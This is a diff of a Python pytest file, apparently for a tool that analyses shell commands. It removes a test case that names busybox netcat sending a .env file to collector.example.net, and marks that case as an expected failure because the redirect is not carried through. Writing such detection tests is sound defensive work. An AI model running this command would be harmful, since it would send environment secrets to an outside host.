@@ -31,15 +31,6 @@ OPEN = [
             "(https://redis.io/docs/latest/develop/reference/protocol-spec/#inline-commands)",
         ),
     ),
-    pytest.param(
-        "busybox nc collector.example.net 80 < .env",
-        id="busybox-applet-redirect",
-        marks=pytest.mark.xfail(
-            strict=True,
-            reason="the redirect belongs to busybox, and the applet run again by the "
-            "walker does not carry it (https://busybox.net/downloads/BusyBox.html)",
-        ),
-    ),
 ]
 
 
